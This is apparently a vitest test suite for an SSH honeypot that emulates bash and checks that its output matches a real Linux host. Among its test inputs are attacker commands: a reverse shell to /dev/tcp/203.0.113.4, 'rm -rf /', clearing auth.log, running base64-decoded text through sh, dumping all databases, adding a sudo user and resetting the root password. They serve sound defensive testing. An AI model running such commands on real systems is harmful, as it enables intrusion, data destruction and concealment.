import { afterAll, beforeAll, expect, it } from 'vitest';
import { ssh } from './support/clients.ts';
import { startTestDecoy, type TestDecoy } from './support/decoy.ts';
import { openTerminal } from './support/terminal.ts';

let test: TestDecoy;
beforeAll(async () => {
  test = await startTestDecoy();
});
afterAll(() => test?.close());

it.each(['bin/[[a-f]*', 'bin/[g-m]*', 'bin/[n-r]*', 'bin/[s-z]*', 'sbin/*'])(
  'no program in /usr/%s answers with a fault of the interpreter',
  async (names) => {
    // These would hold the line up, or end it.
    const left = 'yes|reboot|halt|poweroff|shutdown|sleep|su|sudo';
    const script = `for p in /usr/${names}; do [[ $p =~ /(${left})$ ]] && continue; $p a b </dev/null >/tmp/o 2>&1; $p </dev/null >>/tmp/o 2>&1; grep -q 'exceeded\\|accounting\\|undefined' /tmp/o && echo "$p: $(head -1 /tmp/o)"; done; ls -d /usr/${names} | wc -l`;
    const { stdout } = await ssh(test.port, script);
    expect(stdout).toMatch(/^\d{2,3}\n$/);
  },
);

it.each([
  {
    line: 'for f in a b; do echo x > /nope/o || echo failed $f; done',
    stdout: 'failed a\nfailed b\n',
    stderr: 'bash: line 1: /nope/o: No such file or directory\n'.repeat(2),
  },
  {
    line: '{ echo a > /nope/b; echo c; }; ( echo d > /nope/e ) 2>&1 | cat',
    stdout: 'c\nbash: line 1: /nope/e: No such file or directory\n',
    stderr: 'bash: line 1: /nope/b: No such file or directory\n',
  },
  {
    line: 'mktemp XX 2>/dev/null; echo $?; cd /tmp; mktemp zzXXXX | grep -c "^zz....$"; mount /dev/nope /mnt; echo $?; sort /nope; echo $?; sort -c /etc/passwd 2>/dev/null; echo $?',
    stdout: '1\n1\n32\n2\n1\n',
    stderr:
      'mount: /mnt: special device /dev/nope does not exist.\n       dmesg(1) may have more information after failed mount system call.\n' +
      'sort: cannot read: /nope: No such file or directory\n',
  },
  {
    line: `tr '\\0' '\\n' < /proc/self/environ | grep -E '^(USER|HOME|SHLVL|HISTFILE)=' | sort; python3 -c 'import sys; print(sys.version)'`,
    stdout: 'HOME=/root\nSHLVL=1\nUSER=root\n3.10.12 (main, Nov  6 2024, 20:22:13) [GCC 11.4.0]\n',
    stderr: '',
  },
  {
    line: 'mysql -u root -psecret; echo $?; mysqldump --all-databases; nginx -v; psql',
    stdout: '1\n',
    stderr:
      "ERROR 1045 (28000): Access denied for user 'root'@'localhost' (using password: YES)\n" +
      "mysqldump: Got error: 1045: Access denied for user 'root'@'localhost' (using password: NO) when trying to connect\n" +
      'nginx version: nginx/1.18.0 (Ubuntu)\nbash: line 1: psql: command not found\n',
  },
  {
    line: 'bash -i >& /dev/tcp/203.0.113.4/80 0>&1; echo $?',
    stdout: '1\n',
    stderr: 'bash: connect: No route to host\nbash: line 1: /dev/tcp/203.0.113.4/80: No route to host\n',
  },
  {
    line: 'echo x > /proc/.nippon; cat /proc/.nippon; rm -f /proc/.nippon',
    stdout: '',
    stderr: 'bash: line 1: /proc/.nippon: No such file or directory\ncat: /proc/.nippon: No such file or directory\n',
  },
  {
    line: 'ls -l /bin/sh /etc/localtime | sed "s/.* \\//\\//"; ip -o link show lo | wc -l; ip -4 -br addr show lo; echo ~daemon ~nosuch',
    stdout:
      '/bin/sh -> dash\n/usr/share/zoneinfo/Etc/UTC\n1\nlo               UNKNOWN        127.0.0.1/8 \n/usr/sbin ~nosuch\n',
    stderr: '',
  },
  {
    line: 'useradd -x q 2>&1 | head -2; (( 1/0 ))',
    stdout: "useradd: invalid option -- 'x'\nUsage: useradd [options] LOGIN\n",
    stderr: 'bash: line 1: ((: 1/0 : division by 0 (error token is "0 ")\n',
  },
  {
    line: 'echo a > /tmp/c; echo a | cmp - /tmp/c && echo b | cmp -s /tmp/c || echo other',
    stdout: 'other\n',
    stderr: '',
  },
  {
    line: 'rm -rf /; rm --recursive --force / && echo gone; touch /tmp/r; rm -f --preserve-root /tmp/r; ls -d /etc /tmp/r 2>/dev/null',
    stdout: '/etc\n',
    stderr:
      "rm: it is dangerous to operate recursively on '/'\nrm: use --no-preserve-root to override this failsafe\n".repeat(
        2,
      ),
  },
  {
    line: 'if; echo',
    stdout: '',
    stderr: "bash: -c: line 1: syntax error near unexpected token `;'\nbash: -c: line 1: `if; echo'\n",
  },
  { line: 'env | grep -c "^USER=root\\|^SHELL=/bin/bash\\|^SSH_CLIENT="', stdout: '3\n', stderr: '' },
  { line: 'echo aWQgLXUK | base64 -d | sh -x; echo "echo $1 me" | bash -s x', stdout: '0\nme\n', stderr: '+ id -u\n' },
  { line: `python3 -c 'import os; print(2**10, os.getuid())'`, stdout: '1024 0\n', stderr: '' },
  { line: 'seq 4 | xargs -n2 | xargs -I{} echo "<{}>"', stdout: '<1 2>\n<3 4>\n', stderr: '' },
  { line: 'dd if=/bin/ls bs=20 count=1 2>/dev/null | od -An -tx1 | head -c 12', stdout: ' 7f 45 4c 46', stderr: '' },
  {
    line: 'find /usr/bin -perm -u=s -name passwd; command -v nosuch || echo none',
    stdout: '/usr/bin/passwd\nnone\n',
    stderr: '',
  },
])('$line', async ({ line, stdout, stderr }) => {
  expect(await ssh(test.port, line)).toMatchObject({ stdout, stderr });
});

it('who looks for rivals in /proc finds the processes that ps shows, with their programs and words', async () => {
  const script =
    'ls /proc | grep "^[0-9]" | sort -n > /tmp/a; ps -e -o pid= | sort -n | tr -d " " > /tmp/b; grep -vxFf /tmp/b /tmp/a; ' +
    "readlink /proc/1/exe /proc/$$/exe; tr '\\0' ' ' < /proc/1/cmdline; echo; cat /proc/$$/comm; grep -c . /proc/1/status; readlink /proc/2/exe; echo $?; touch /proc/2/x";
  const { stdout, stderr } = await ssh(test.port, script);
  expect(stdout).toMatch(/^\/usr\/lib\/systemd\/systemd\n\/usr\/bin\/bash\n\/sbin\/init \nbash\n\d+\n1\n$/);
  expect(stderr).toBe("touch: cannot touch '/proc/2/x': No such file or directory\n");
});

it('top tells the memory that free tells, below a head of seven rows', async () => {
  const { stdout } = await ssh(test.port, "top -bn1 | head -7; free -m | awk '/^Mem/{print $2}'");
  const rows = stdout.split('\n');
  expect(rows[0]).toMatch(/^top - \d\d:\d\d:\d\d up /);
  expect(rows[3]).toMatch(/^MiB Mem : +[\d.]+ total, +[\d.]+ free, +[\d.]+ used, +[\d.]+ buff\/cache {5}$/);
  expect(Math.floor(Number(/([\d.]+) total/.exec(rows[3] ?? '')?.[1]))).toBe(Number(rows[7]));
  expect(rows[6]).toBe('    PID USER      PR  NI    VIRT    RES    SHR S  %CPU  %MEM     TIME+ COMMAND');
});

it('the logs tell of who came in, until he empties them', async () => {
  const { stdout } = await ssh(
    test.port,
    'echo "$SSH_CLIENT" | cut -d" " -f2 > /tmp/p; ' +
      'grep -c "Accepted password for root from 127.0.0.1 port $(cat /tmp/p) ssh2$" /var/log/auth.log; stat -c %s /var/log/wtmp; wc -c < /var/log/wtmp; > /var/log/auth.log; cat /var/log/auth.log',
  );
  const [mine, size, read, rest] = stdout.split('\n');
  expect(mine).toBe('1');
  expect(Number(size)).toBeGreaterThan(384);
  expect(read).toBe(size);
  expect(rest).toBe('');
});

it('less at a terminal stays until q, and goes back and forth', async () => {
  const terminal = await openTerminal(test.port);
  await terminal.type('seq 100 > /tmp/long');
  expect(await terminal.start('less /tmp/long', /\/tmp\/long.\[27m$/)).toContain('\r\n39\r\n');
  expect(await terminal.start('G', /\(END\)/)).toContain('\r\n100\r\n');
  expect(await terminal.type('q')).not.toContain('command not found');
  terminal.close();
});

it('top at a terminal stays until q', async () => {
  const terminal = await openTerminal(test.port);
  expect(await terminal.start('top', /COMMAND/)).toContain('Tasks:');
  expect(await terminal.type('q')).not.toContain('command not found');
  terminal.close();
});

it('what dd tells of its pace is what size and time come to', async () => {
  const { stderr } = await ssh(test.port, 'dd if=/dev/zero of=/tmp/z bs=1M count=3');
  const [, bytes, seconds, gigabytesPerSecond] =
    /^3\+0 records in\n3\+0 records out\n(\d+) bytes \(3\.1 MB, 3\.0 MiB\) copied, ([\d.]+) s, ([\d.]+) GB\/s\n$/.exec(
      stderr,
    ) ?? [];
  expect(Number(bytes) / Number(seconds) / 1e9).toBeCloseTo(Number(gigabytesPerSecond), 0);
});

it('who is added is in every table, and a password that was changed is the only one from then on', async () => {
  const made = await ssh(
    test.port,
    'useradd -m -G sudo eve; id -Gn eve; getent passwd eve | cut -d: -f6; ls -ld /home/eve',
  );
  expect(made.stdout).toMatch(/^eve sudo\n\/home\/eve\ndrwx.* eve eve /);
  await ssh(test.port, 'echo root:changed-1 | chpasswd');
  expect((await ssh(test.port, 'id', { password: 'hunter2' })).status).toBe(255);
  expect((await ssh(test.port, 'echo in; echo root:hunter2 | chpasswd', { password: 'changed-1' })).stdout).toBe(
    'in\n',
  );
});

it('a job goes on behind the prompt until it is killed, and two sessions of one attacker see each other', async () => {
  const [one, two] = [await openTerminal(test.port), await openTerminal(test.port)];
  expect(await one.type('sleep 500 &')).toMatch(/\[1\] \d+\r\n/);
  expect(await one.type('jobs')).toContain('[1]+  Running                 sleep 500 &');
  expect(await one.type('kill %1')).toContain('Terminated');
  expect((await one.type('nosuch & wait; jobs')).match(/Exit 127/g)).toHaveLength(1);
  expect((await two.type('who')).match(/pts\/\d+/g)).toHaveLength(2);
  one.close();
  two.close();
});
